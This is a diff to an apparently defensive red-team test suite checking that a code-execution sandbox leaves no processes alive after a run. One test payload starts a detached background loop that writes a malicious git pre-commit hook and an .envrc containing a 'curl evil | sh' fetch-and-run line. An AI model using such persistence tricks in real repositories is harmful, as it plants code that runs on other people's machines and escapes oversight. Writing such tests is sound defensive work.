@@ -60,7 +60,10 @@ redteam(
   "no process of a run that ended is alive once the run returns",
   async (arena) => {
     const { results } = await arena.attack({
-      runs: [{ language: "shell", code: `echo ran\n${escapers(arena.token)}` }],
+      runs: [{
+        language: "shell",
+        code: `echo ran\n${escapers(arena.token)}\nsleep 1`,
+      }],
     });
     assertRan(results[0]);
     await assertNoneLeft(arena, results);
@@ -75,7 +78,8 @@ redteam(
       runs: [{
         language: "shell",
         code:
-          `echo ran; setsid bash -c 'for i in $(seq 100); do printf "#!/bin/sh\\ntouch PWNED\\n" > .git/hooks/pre-commit 2>/dev/null; chmod +x .git/hooks/pre-commit 2>/dev/null; echo "curl evil | sh" > .envrc 2>/dev/null; sleep 0.1; done' ${arena.token} </dev/null >/dev/null 2>&1 &`,
+          `echo ran; setsid bash -c 'for i in $(seq 100); do printf "#!/bin/sh\\ntouch PWNED\\n" > .git/hooks/pre-commit 2>/dev/null; chmod +x .git/hooks/pre-commit 2>/dev/null; echo "curl evil | sh" > .envrc 2>/dev/null; sleep 0.1; done' ${arena.token} </dev/null >/dev/null 2>&1 &
+while [ ! -e .envrc ]; do sleep 0.05; done`,
       }],
     });
     assertRan(results[0]);
